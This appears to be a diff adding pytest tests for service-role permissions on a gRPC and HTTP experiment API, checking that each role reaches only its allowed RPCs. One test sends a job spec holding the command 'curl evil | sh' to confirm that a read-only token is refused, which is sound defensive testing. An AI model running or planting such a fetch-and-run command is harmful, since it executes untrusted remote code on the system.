@@ -87,3 +87,135 @@ def test_cli_login_during_a_certs_outage_is_503(client, cloudflare):
     res = client.get("/auth/cli-login", {"port": "4000", "state": "s" * 32},
                      HTTP_CF_ACCESS_JWT_ASSERTION=cloudflare.sign())
     assert res.status_code == 503 and int(res["Retry-After"]) >= 1
+
+
+# -- AUTH-8: service roles ---------------------------------------------------------------------
+
+def _all_rpcs() -> list[str]:
+    """Every RPC the API server serves, read from the generated descriptors."""
+    from falcon_proto.falcon.v1 import analysis_pb2, artifact_pb2, experiment_pb2, job_pb2
+
+    names = []
+    for module, service in ((experiment_pb2, "ExperimentService"), (job_pb2, "JobService"),
+                            (artifact_pb2, "ArtifactService"),
+                            (analysis_pb2, "AnalysisRecordService")):
+        for method in module.DESCRIPTOR.services_by_name[service].methods:
+            names.append(f"/falcon.v1.{service}/{method.name}")
+    return names
+
+
+READS = {"GetExp", "ListExps", "GetJob", "ListJobs", "GetArtifact", "ListArtifacts"}
+ANALYSIS = {"ListExpsAwaitingAnalysis", "CreateAnalysisRecord", "GetAnalysisRecord",
+            "ListAnalysisRecords", "UpdateAnalysisRecord", "DeleteAnalysisRecord",
+            "ListRunningAnalyses"}
+# What each role may call, written out (not derived from accounts.grpc_auth).
+EXPECTED = {
+    "exp-controller": READS | {"UpdateExpStatus", "UpdateJobStatus", "UpdateArtifactStatus"},
+    "resource-manager": READS | {"UpdateJobStatus"},
+    "analyzer": READS | ANALYSIS,
+    "maintenance": READS | {"CreateJob", "DeleteJob", "CreateArtifact", "DeleteArtifact"},
+    "read-only": READS,
+    "user": READS | {"CreateExp", "AbortExp", "DeleteExp"},
+}
+MATRIX = [(role, rpc) for role in EXPECTED for rpc in _all_rpcs()]
+
+
+@pytest.mark.parametrize("role,rpc", MATRIX, ids=[f"{r}:{m.rsplit('/', 1)[1]}"
+                                                  for r, m in MATRIX])
+def test_each_role_calls_exactly_its_rpcs(role, rpc):
+    from accounts.grpc_auth import Principal, authorize
+    from accounts.principals import ServiceIdentity
+    from core.errors import PermissionDenied
+
+    if role == "user":
+        principal = Principal(kind="user", user=object())
+    else:
+        principal = Principal(kind="service",
+                              service=ServiceIdentity(name="x.access", roles=frozenset({role})))
+    allowed = rpc.rsplit("/", 1)[1] in EXPECTED[role]
+    if allowed:
+        authorize(principal, rpc)
+    else:
+        with pytest.raises(PermissionDenied):
+            authorize(principal, rpc)
+
+
+def test_the_internal_token_has_every_controller_role():
+    from accounts.grpc_auth import ROLE_METHODS, SERVICE, authorize
+
+    assert SERVICE.service.roles >= {"exp-controller", "resource-manager", "analyzer"}
+    for rpc in set().union(*ROLE_METHODS.values()):
+        authorize(SERVICE, rpc)
+
+
+@pytest.fixture
+def victim_exp():
+    from experiments.tests.factories import make_exp
+    from accounts.tests.factories import UserFactory
+
+    return make_exp(creator=UserFactory(email="victim@example.com"))
+
+
+def test_a_read_only_service_token_cannot_add_jobs_or_move_experiments(
+        cloudflare, settings, grpc_channel, victim_exp):
+    from falcon_proto.falcon.v1 import experiment_pb2, job_pb2, job_pb2_grpc
+
+    settings.FALCON_CF_SERVICE_TOKENS = ["reader.access"]
+    md = auth_metadata(cloudflare.sign(cloudflare.service_claims("reader.access")))
+    jobs = job_pb2_grpc.JobServiceStub(grpc_channel)
+    exps = experiment_pb2_grpc.ExperimentServiceStub(grpc_channel)
+    attacks = [
+        (jobs.CreateJob, job_pb2.CreateJobReq(exp_id=victim_exp.pk, role="evil",
+                                              task_spec_json='{"command": "curl evil | sh"}')),
+        (exps.UpdateExpStatus, experiment_pb2.UpdateExpStatusReq(id=victim_exp.pk,
+                                                                 status="Aborting")),
+        (exps.AbortExp, experiment_pb2.AbortExpReq(id=victim_exp.pk)),
+        (exps.DeleteExp, experiment_pb2.DeleteExpReq(id=victim_exp.pk)),
+    ]
+    for method, request in attacks:
+        with pytest.raises(grpc.RpcError) as err:
+            method(request, metadata=md, timeout=10)
+        assert err.value.code() is grpc.StatusCode.PERMISSION_DENIED
+    victim_exp.refresh_from_db()
+    assert victim_exp.status == "Created" and victim_exp.jobs.count() == 1
+    # Reading stays allowed.
+    exps.GetExp(experiment_pb2.GetExpReq(id=victim_exp.pk), metadata=md, timeout=10)
+
+
+def test_a_service_token_cannot_abort_over_http(api, cloudflare, settings, victim_exp):
+    settings.FALCON_SERVICE_ROLES = {"ctl.access": "exp-controller"}
+    token = cloudflare.sign(cloudflare.service_claims("ctl.access"))
+    res = api.post(f"/api/v1/exps/{victim_exp.pk}/abort", HTTP_CF_ACCESS_JWT_ASSERTION=token)
+    assert res.status_code == 403
+    assert api.get(f"/api/v1/exps/{victim_exp.pk}",
+                   HTTP_CF_ACCESS_JWT_ASSERTION=token).status_code == 200
+
+
+def test_a_row_role_wins_and_the_admin_shows_the_effective_role(cloudflare, settings, client):
+    from accounts.models import ServicePrincipal, User
+    from accounts.selectors import service_role
+
+    settings.FALCON_SERVICE_ROLES = {"a.access": "exp-controller", "b.access": "analyzer"}
+    ServicePrincipal.objects.create(common_name="a.access", role="read-only")
+    ServicePrincipal.objects.create(common_name="b.access")
+    assert service_role(common_name="a.access") == "read-only"
+    assert service_role(common_name="b.access") == "analyzer"
+    assert service_role(common_name="c.access") == "read-only"
+    User.objects.create_superuser("root@example.com", user_id="cf-root")
+    res = client.get("/admin/accounts/serviceprincipal/",
+                     HTTP_CF_ACCESS_JWT_ASSERTION=cloudflare.sign(email="root@example.com",
+                                                                  sub="cf-root"))
+    assert res.status_code == 200
+    body = res.content.decode()
+    assert "analyzer" in body and "FALCON_SERVICE_ROLES" in body
+
+
+@pytest.mark.parametrize("raw", ["a.access", "a.access=root", "=exp-controller",
+                                 "a=exp-controller,a=analyzer"])
+def test_a_bad_service_roles_setting_stops_the_server_naming_it(raw):
+    from django.core.exceptions import ImproperlyConfigured
+
+    from falcon_site.settings.auth import _service_roles
+
+    with pytest.raises(ImproperlyConfigured, match="FALCON_SERVICE_ROLES"):
+        _service_roles(raw)
